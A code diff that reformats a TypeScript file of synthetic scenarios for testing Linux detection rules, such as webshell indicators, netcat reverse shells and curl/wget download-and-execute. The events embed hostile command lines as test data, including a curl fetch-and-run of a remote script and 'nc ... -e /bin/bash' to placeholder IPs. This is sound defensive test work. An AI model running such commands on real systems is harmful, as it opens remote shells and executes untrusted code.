@@ -28,18 +28,37 @@ export const SCENARIOS: readonly Scenario[] = [
     ruleId: '818f7b24-0fba-4c49-a073-8b755573b9c7',
     title: 'Linux Webshell Indicators',
     build: (rand, time, pid, web) => {
-      const shell = proc(time, pid, web, '/usr/bin/dash', "sh -c whoami;id;uname -a", 33, '/var/www/html');
+      const shell = proc(
+        time,
+        pid,
+        web,
+        '/usr/bin/dash',
+        'sh -c whoami;id;uname -a',
+        33,
+        '/var/www/html',
+      );
       const tool = pick(rand, ['/usr/bin/whoami', '/usr/bin/uname', '/usr/bin/hostname']);
       // The worker's own exec gives consumers the parent image (Sigma's ParentImage).
       const worker = proc(time, web, 1, '/usr/sbin/nginx', 'nginx: worker process', 33, '/');
-      return [worker, shell, proc(time, pid + 1, pid, tool, tool.split('/').pop() ?? tool, 33, '/var/www/html')];
+      return [
+        worker,
+        shell,
+        proc(time, pid + 1, pid, tool, tool.split('/').pop() ?? tool, 33, '/var/www/html'),
+      ];
     },
   },
   {
     ruleId: 'a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa',
     title: 'Suspicious Download and Execute Pattern via Curl/Wget',
     build: (_rand, time, pid, web) => [
-      proc(time, pid, web, '/usr/bin/dash', 'sh -c /usr/bin/curl -s http://203.0.113.7/x.sh -o /tmp/.x.sh && sh /tmp/.x.sh', 33),
+      proc(
+        time,
+        pid,
+        web,
+        '/usr/bin/dash',
+        'sh -c /usr/bin/curl -s http://203.0.113.7/x.sh -o /tmp/.x.sh && sh /tmp/.x.sh',
+        33,
+      ),
     ],
   },
   {
@@ -54,7 +73,14 @@ export const SCENARIOS: readonly Scenario[] = [
     ruleId: '7f734ed0-4f47-46c0-837f-6ee62505abd9',
     title: 'Potential Netcat Reverse Shell Execution',
     build: (rand, time, pid, web) => [
-      proc(time, pid, web, '/usr/bin/nc', `nc 198.51.100.23 ${pick(rand, [4444, 9001, 1337])} -e /bin/bash`, 33),
+      proc(
+        time,
+        pid,
+        web,
+        '/usr/bin/nc',
+        `nc 198.51.100.23 ${pick(rand, [4444, 9001, 1337])} -e /bin/bash`,
+        33,
+      ),
     ],
   },
   {
@@ -85,8 +111,23 @@ export const SCENARIOS: readonly Scenario[] = [
     ruleId: '35a05c60-9012-49b6-a11f-6bab741c9f74',
     title: 'Wget Creating Files in Tmp Directory',
     build: (_rand, time, pid, web) => [
-      proc(time, pid, web, '/usr/bin/wget', 'wget -q http://203.0.113.7/payload -O /tmp/payload', 33),
-      { kind: 'file', time, pid, path: '/usr/bin/wget', targetPath: '/tmp/payload', action: 'CREATED', suspicious: true },
+      proc(
+        time,
+        pid,
+        web,
+        '/usr/bin/wget',
+        'wget -q http://203.0.113.7/payload -O /tmp/payload',
+        33,
+      ),
+      {
+        kind: 'file',
+        time,
+        pid,
+        path: '/usr/bin/wget',
+        targetPath: '/tmp/payload',
+        action: 'CREATED',
+        suspicious: true,
+      },
     ],
   },
 ];
